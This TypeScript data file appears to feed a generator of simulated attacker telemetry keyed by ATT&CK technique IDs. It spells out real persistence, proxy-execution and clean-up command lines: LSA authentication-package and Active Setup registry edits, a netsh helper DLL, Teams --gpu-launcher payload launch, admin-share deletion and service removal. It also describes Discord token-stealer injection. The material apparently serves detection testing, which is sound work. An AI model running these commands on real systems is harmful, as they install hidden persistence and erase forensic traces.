import { v } from "../dsl";
import type { Variant } from "../types";

const ACTIVE_SETUP = "HKLM\\SOFTWARE\\Microsoft\\Active Setup\\Installed Components";
/** "Internet Explorer Core Fonts": present on every install, without a StubPath of its own. */
const IE_FONTS = "{C9E9A340-D1F1-11D0-821E-444553540600}";
const LSA = "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa";
const PRTPROCS = "C:\\Windows\\System32\\spool\\prtprocs\\x64";
const PRINT_PROCESSORS =
  "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Print\\Environments\\Windows x64\\Print Processors";
const TEAMS = "{{local}}\\Microsoft\\Teams\\current\\Teams.exe";
const DISCORD = "{{local}}\\Discord\\{{$app}}\\Discord.exe";
const LANMAN_KEY = "HKLM\\SYSTEM\\CurrentControlSet\\Services\\LanmanServer\\Parameters";
const LANMAN = "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\LanmanServer\\Parameters";

/**
 * Extra variants (see ../extras.ts) for persistence, hijack, proxy-execution and clean-up rows whose variants
 * stopped short of what runs next: the Atomic Active Setup, authentication package, print processor,
 * unquoted path and admin-share tests, the setup16.exe .lst LOLBin, a netsh helper and an AppDomainManager
 * that run at once, Electron apps made to start or carry the payload, an MSI custom action, a .pth hook.
 */
export const extrasK: Readonly<Record<string, readonly Variant[]>> = {
  // Hexacorn (2024): the 16-bit setup stub still shipped in SysWOW64 takes an alternative .lst with -m; its
  // "Background" entry is relaunched as a new setup program, quietly with -QT.
  "T1574.005": [
    v("setup16-lst", [
      {
        by: "sh",
        files: ["C:\\ProgramData\\{{name}}\\setup.lst", "C:\\ProgramData\\{{name}}\\{{name}}.exe"],
      },
      {
        cmd: "C:\\Windows\\SysWOW64\\setup16.exe -m C:\\ProgramData\\{{name}}\\setup.lst -QT",
        as: "s16",
      },
      {
        cmd: "..\\..\\..\\ProgramData\\{{name}}\\{{name}}.exe",
        image: "C:\\ProgramData\\{{name}}\\{{name}}.exe",
        parent: "s16",
      },
    ]),
  ],
  // AppDomainManager injection (public PoC binary UevAppMonitor.exe): a signed .NET binary copied next to a
  // .config naming the attacker assembly as its AppDomainManager, which the CLR loads before Main.
  "T1574.014": [
    v(
      "copied-uevappmonitor",
      [
        {
          cmd: '"{{downloads}}\\{{name}}.exe"',
          parent: "@explorer",
          as: "ld",
          copies: [["C:\\Windows\\System32\\UevAppMonitor.exe", "{{appdata}}\\{{name}}\\UevAppMonitor.exe"]],
          files: ["{{appdata}}\\{{name}}\\UevAppMonitor.exe.config", "{{appdata}}\\{{name}}\\{{rand}}.dll"],
        },
        {
          cmd: '"{{appdata}}\\{{name}}\\UevAppMonitor.exe"',
          parent: "ld",
          as: "uev",
        },
        {
          by: "uev",
          loads: [
            "C:\\Windows\\System32\\mscoree.dll",
            "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll",
            "{{appdata}}\\{{name}}\\{{rand}}.dll",
          ],
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "none" },
    ),
  ],
  // Atomic T1574.009: a service whose binPath has a space and no quotes; the SCM tries C:\program.exe
  // first and hands it the whole unquoted path as its command line.
  "T1574.009": [
    v(
      "unquoted-service-start",
      [
        { by: "sh", files: ["C:\\Program Files\\{{name}}_service.exe", "C:\\program.exe"] },
        {
          cmd: 'sc create "{{name}}" binpath= "C:\\Program Files\\{{name}}_service.exe" Displayname= "{{name}}" start= auto',
          then: [
            {
              id: "s",
              kind: "service.install",
              proc: "@services",
              name: "{{name}}",
              displayName: "{{name}}",
              imagePath: "C:\\Program Files\\{{name}}_service.exe",
              startType: "auto start",
            },
          ],
        },
        {
          cmd: 'sc start "{{name}}"',
          then: [{ id: "st", kind: "service.state", name: "{{name}}", state: "running" }],
        },
        {
          cmd: "C:\\Program Files\\{{name}}_service.exe",
          image: "C:\\program.exe",
          parent: "@services",
          user: "@system",
        },
      ],
      { elevated: true },
    ),
  ],
  // NetshHelperBeacon style: netsh loads the helper as soon as it is added and its InitHelperDll starts the
  // implant inside netsh.exe (and again in every later netsh run).
  "T1546.007": [
    v(
      "system32-helper-beacon",
      [
        { by: "sh", files: ["C:\\Windows\\System32\\{{name}}.dll"] },
        {
          cmd: "netsh.exe add helper C:\\Windows\\System32\\{{name}}.dll",
          as: "ns",
          keep: true,
          reg: [["HKLM\\SOFTWARE\\Microsoft\\NetSh", "{{name}}", "C:\\Windows\\System32\\{{name}}.dll"]],
        },
        { by: "ns", loads: ["C:\\Windows\\System32\\{{name}}.dll"], net: [["{{c2}}", 443]] },
      ],
      { elevated: true },
    ),
  ],
  // Atomic T1547.014 #2 and #3: a StubPath added to an existing component, then runonce.exe replays Active
  // Setup at once instead of waiting for the next logon (and stamps the per-user Version).
  "T1547.014": [
    v(
      "ie-core-fonts-stubpath",
      [
        {
          ps: `Set-ItemProperty "HKLM:\\SOFTWARE\\Microsoft\\Active Setup\\Installed Components\\${IE_FONTS}" "StubPath" "C:\\ProgramData\\{{name}}\\{{name}}.exe" -Force`,
          reg: [[`${ACTIVE_SETUP}\\${IE_FONTS}`, "StubPath", "C:\\ProgramData\\{{name}}\\{{name}}.exe"]],
        },
        {
          cmd: '"C:\\Windows\\system32\\runonce.exe" /AlternateShellStartup',
          as: "ro",
          reg: [
            [
              `HKCU\\SOFTWARE\\Microsoft\\Active Setup\\Installed Components\\${IE_FONTS}`,
              "Version",
              "1,0,0,0",
            ],
          ],
        },
        { cmd: "C:\\ProgramData\\{{name}}\\{{name}}.exe", parent: "ro" },
      ],
      { shell: "ps", elevated: true },
    ),
  ],
  // Atomic T1547.002: the package must sit in System32 (LSASS loads it by bare name at the next boot).
  "T1547.002": [
    v(
      "copy-package-system32",
      [
        // copy is a cmd built-in: the typed shell writes the DLL itself.
        { by: "sh", files: ["C:\\Windows\\System32\\{{rand}}.dll"] },
        {
          cmd: `reg add "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\Lsa" /v "Authentication Packages" /t REG_MULTI_SZ /d "msv1_0\\0{{rand}}" /f`,
          reg: [[LSA, "Authentication Packages", "msv1_0 {{rand}}", "REG_MULTI_SZ"]],
        },
      ],
      { elevated: true },
    ),
  ],
  // The AddPrintProcessor API: the installer only drops the DLL into the print processor directory; the
  // spooler writes the Print Processors key itself and loads the DLL (again at every start).
  "T1547.012": [
    v(
      "addprintprocessor-api",
      [
        { cmd: "{{tools}}\\{{name}}.exe", files: [`${PRTPROCS}\\{{rand}}.dll`] },
        { by: "@spoolsv", reg: [[`${PRINT_PROCESSORS}\\{{name}}`, "Driver", "{{rand}}.dll"]] },
        { by: "@spoolsv", loads: [`${PRTPROCS}\\{{rand}}.dll`] },
      ],
      { elevated: true },
    ),
  ],
  // mr.d0x (2022): Chromium passes the GPU process command line to the --gpu-launcher, so cmd.exe starts the
  // payload and then the real GPU process.
  "T1218.015": [
    v("teams-gpu-launcher-child", [
      {
        cmd: `"${TEAMS}" --disable-gpu-sandbox --gpu-launcher="C:\\Windows\\system32\\cmd.exe /c start /b C:\\ProgramData\\{{name}}\\{{name}}.exe &&"`,
        as: "teams",
      },
      {
        cmd: `C:\\Windows\\system32\\cmd.exe /c start /b C:\\ProgramData\\{{name}}\\{{name}}.exe && "${TEAMS}" --type=gpu-process --disable-gpu-sandbox --gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAAwAAAAAAAAAAAAAAAAAAAAAAA --mojo-platform-channel-handle={{n}} /prefetch:2`,
        parent: "teams",
        as: "gl",
      },
      { cmd: "C:\\ProgramData\\{{name}}\\{{name}}.exe", parent: "gl" },
      {
        cmd: `"${TEAMS}" --type=gpu-process --disable-gpu-sandbox --gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAAwAAAAAAAAAAAAAAAAAAAAAAA --mojo-platform-channel-handle={{n}} /prefetch:2`,
        parent: "gl",
      },
    ]),
    // Token stealers (Blank Grabber, Creal …) plant JavaScript in Discord's core module, end the running
    // client and restart it through its Squirrel updater, so the Electron app itself posts the tokens.
    v(
      "discord-core-injection",
      [
        { cmd: `"${DISCORD}"`, parent: "@explorer", as: "dc", keep: true, net: [["discord.com", 443]] },
        {
          cmd: '"{{downloads}}\\{{name}}.exe"',
          parent: "@explorer",
          as: "st",
          keep: true,
          files: [
            "{{local}}\\Discord\\{{$app}}\\modules\\discord_desktop_core-1\\discord_desktop_core\\index.js",
          ],
          then: [{ id: "kill", kind: "process.terminate", proc: "dc" }],
        },
        { cmd: '"{{local}}\\Discord\\Update.exe" --processStart Discord.exe', parent: "st", as: "upd" },
        { cmd: `"${DISCORD}"`, parent: "upd", net: [["discord.com", 443]] },
      ],
      { shell: "none", vars: { app: "app-1.0.{{9028|9035|9047|9164}}" } },
    ),
  ],
  // Atomic T1070.005 #4 and #5: no administrative shares at the next start, and the current ones removed
  // (typed as a for loop, so cmd.exe starts one net.exe per share).
  "T1070.005": [
    v(
      "remove-admin-shares",
      [
        {
          cmd: `reg add "${LANMAN}" /v AutoShareServer /t REG_DWORD /d 0 /f`,
          reg: [[LANMAN_KEY, "AutoShareServer", "0", "REG_DWORD"]],
        },
        {
          cmd: `reg add "${LANMAN}" /v AutoShareWks /t REG_DWORD /d 0 /f`,
          reg: [[LANMAN_KEY, "AutoShareWks", "0", "REG_DWORD"]],
        },
        "net share C$ /delete",
        { cmd: "net share IPC$ /delete", delay: 40 },
        { cmd: "net share ADMIN$ /delete", delay: 40 },
      ],
      { elevated: true },
    ),
  ],
  // The clean-up operators run before leaving: the service they installed is stopped and deleted (the SCM
  // removes its key itself) and the binary behind it goes too.
  "T1070.009": [
    v(
      "service-binary-cleanup",
      [
        "sc stop {{name}}",
        {
          cmd: "sc delete {{name}}",
          then: [
            {
              id: "sd",
              kind: "registry.key.delete",
              proc: "@services",
              key: "HKLM\\SYSTEM\\CurrentControlSet\\Services\\{{name}}",
            },
          ],
        },
        // del is a cmd built-in: the typed shell removes the file itself.
        { by: "sh", deletes: ["C:\\ProgramData\\{{name}}\\{{name}}.exe"] },
      ],
      { elevated: true },
    ),
  ],
  // No admin needed: a .pth in the per-user site-packages is read by every later interpreter start of that
  // user, and its "import" line runs the loader (here when the user next runs a script).
  "T1546.018": [
    v(
      "user-site-pth",
      [
        {
          cmd: '"{{downloads}}\\{{name}}.exe"',
          parent: "@explorer",
          files: [
            "{{appdata}}\\Python\\Python312\\site-packages\\{{rand}}.pth",
            "{{appdata}}\\{{name}}\\{{name}}.exe",
          ],
        },
        {
          cmd: '"{{local}}\\Programs\\Python\\Python312\\python.exe" "{{home}}\\Documents\\{{report|sync|backup}}.py"',
          parent: "@explorer",
          as: "py",
          delay: 60000,
        },
        { cmd: "{{appdata}}\\{{name}}\\{{name}}.exe", parent: "py", net: [["{{c2}}", 443]] },
      ],
      { shell: "none" },
    ),
  ],
  // A lure MSI's custom action: the Windows Installer service starts an MsiExec -Embedding server in the
  // user's context for the immediate action, which runs the embedded command line.
  "T1546.016": [
    v(
      "msi-custom-action",
      [
        {
          cmd: '"C:\\Windows\\System32\\msiexec.exe" /i "{{downloads}}\\{{name}}.msi"',
          parent: "@explorer",
        },
        {
          cmd: "C:\\Windows\\system32\\msiexec.exe /V",
          parent: "@services",
          user: "@system",
          as: "msisvc",
          files: ["C:\\Windows\\Installer\\{{rand}}.msi", "{{local}}\\Programs\\{{name}}\\{{name}}.exe"],
          keep: true,
        },
        {
          cmd: "C:\\Windows\\System32\\MsiExec.exe -Embedding {{$ca}} C",
          parent: "msisvc",
          user: "@user",
          as: "ca",
        },
        {
          cmd: 'C:\\Windows\\system32\\cmd.exe /c "{{local}}\\Programs\\{{name}}\\{{name}}.exe"',
          parent: "ca",
          as: "cacmd",
        },
        { cmd: "{{local}}\\Programs\\{{name}}\\{{name}}.exe", parent: "cacmd" },
      ],
      {
        shell: "none",
        vars: {
          ca: "{{8B0E7153BF7C3706D85C524E44006655|9A6656C90BD5482A90A29B9FA5FF5180|BC0DBC0E15637EBB8E3B91D26AB4A829|A95249F512C17B8ED411FA644D35DB41}}",
        },
      },
    ),
  ],
};
